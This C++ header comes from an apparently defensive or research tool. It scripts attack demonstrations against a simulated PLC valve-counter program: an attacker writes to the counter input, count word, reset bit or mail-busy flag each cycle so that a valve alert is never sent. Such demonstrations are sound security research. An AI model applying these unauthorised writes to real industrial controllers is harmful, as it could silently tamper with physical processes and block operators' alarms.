#pragma once

#include <array>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "vbscan/error.hpp"
#include "vbscan/link.hpp"

namespace vbscan {

// Scripted unauthorised-command demonstrations against the valve counter of
// the attack scenario program. Every scenario replays the same stimulus (a
// valve-open event is VALVE high for two cycles, then low for two) and the
// attacker, if any, writes once before every single cycle.
namespace attack_points {
inline constexpr BitAddress kValve{1, 0, 0};
inline constexpr BitAddress kCounterCu{100, 0, 0};
inline constexpr BitAddress kCounterR{100, 0, 1};
inline constexpr std::uint32_t kCounterCvOffset = 6;
inline constexpr DbNumber kCounterDb = 100;
inline constexpr BitAddress kMailBusy{102, 0, 1};
inline constexpr DbNumber kMailDb = 102;
inline constexpr std::uint32_t kMailSentOffset = 2;
inline constexpr BitAddress kConnConnected{103, 0, 2};
}  // namespace attack_points

inline constexpr std::array<std::string_view, 5> kAttackScenarios = {"baseline", "cu-hold-false", "cv-zero",
                                                                      "reset-hold", "busy-lock"};

struct AttackTranscript {
  std::string scenario;
  std::uint32_t events = 0;
  std::vector<std::string> lines;
  std::int16_t counter_cv = 0;
  bool counter_q = false;
  std::int16_t alert_sent = 0;
  bool connected = false;

  std::string render() const {
    std::string out;
    for (const auto& l : lines) out += l + "\n";
    return out;
  }
};

inline std::int16_t read_i16(PlcLink& link, DbNumber db, std::uint32_t offset) {
  const auto b = link.read({db, offset, 2});
  return static_cast<std::int16_t>((b[0] << 8) | b[1]);
}

inline bool read_bit(PlcLink& link, const BitAddress& a) {
  return ((link.read_byte(a.db, a.byte_offset) >> a.bit) & 1) != 0;
}

/// Fails unless the target exposes the VBs the scenario writes into.
inline void check_attack_shape(PlcLink& link) {
  const std::array<std::pair<DbNumber, std::uint32_t>, 5> need = {
      {{1, 8}, {100, 8}, {101, 12}, {102, 16}, {103, 4}}};
  const auto vbs = link.list_vbs();
  for (const auto& [db, size] : need) {
    bool ok = false;
    for (const auto& vb : vbs) ok = ok || (vb.number == db && vb.size >= size);
    if (!ok) {
      throw Error(ErrorCode::ShapeMismatch, "target does not look like the attack scenario: DB" +
                                                std::to_string(db) + " of at least " + std::to_string(size) +
                                                " bytes is missing");
    }
  }
}

/// Runs one scenario for `events` valve-open events on a LOCKSTEP target.
inline AttackTranscript attack_demo(PlcLink& link, std::string_view scenario, std::uint32_t events = 10) {
  using namespace attack_points;
  bool known = false;
  for (auto s : kAttackScenarios) known = known || s == scenario;
  if (!known) throw Error(ErrorCode::UnknownScenario, "unknown attack scenario '" + std::string(scenario) + "'");
  check_attack_shape(link);

  AttackTranscript t;
  t.scenario = std::string(scenario);
  t.events = events;
  std::uint64_t cycle = link.step(1);  // settle initial outputs
  auto log = [&](const std::string& s) { t.lines.push_back("[cycle " + std::to_string(cycle) + "] " + s); };
  log("scenario " + t.scenario + ", " + std::to_string(events) + " valve-open events");

  auto attacker_write = [&] {
    if (scenario == "cu-hold-false") {
      link.write_bit(kCounterCu, false);
      log("attacker WRITE " + to_string(kCounterCu) + " = FALSE");
    } else if (scenario == "cv-zero") {
      const Byte zero[2] = {0, 0};
      link.write({kCounterDb, kCounterCvOffset, 2}, zero);
      log("attacker WRITE DB100.DBW6 = 0");
    } else if (scenario == "reset-hold") {
      link.write_bit(kCounterR, true);
      log("attacker WRITE " + to_string(kCounterR) + " = TRUE");
    } else if (scenario == "busy-lock") {
      link.write_bit(kMailBusy, true);
      log("attacker WRITE " + to_string(kMailBusy) + " = TRUE");
    }
  };
  auto cycles = [&](int n) {
    for (int i = 0; i < n; ++i) {
      attacker_write();
      cycle = link.step(1);
    }
  };

  for (std::uint32_t e = 1; e <= events; ++e) {
    link.write_bit(kValve, true);
    log("process WRITE " + to_string(kValve) + " = TRUE (valve open " + std::to_string(e) + ")");
    cycles(2);
    link.write_bit(kValve, false);
    log("process WRITE " + to_string(kValve) + " = FALSE");
    cycles(2);
    t.counter_cv = read_i16(link, kCounterDb, kCounterCvOffset);
    t.alert_sent = read_i16(link, kMailDb, kMailSentOffset);
    log("observed COUNTER.CV = " + std::to_string(t.counter_cv) + ", MAIL.SENT = " + std::to_string(t.alert_sent));
  }
  t.counter_q = read_bit(link, {kCounterDb, 4, 0});
  t.connected = read_bit(link, kConnConnected);
  log("final COUNTER.Q = " + std::string(t.counter_q ? "TRUE" : "FALSE") +
      ", MAIL.SENT = " + std::to_string(t.alert_sent) +
      ", CONN.CONNECTED = " + std::string(t.connected ? "TRUE" : "FALSE"));
  return t;
}

}  // namespace vbscan
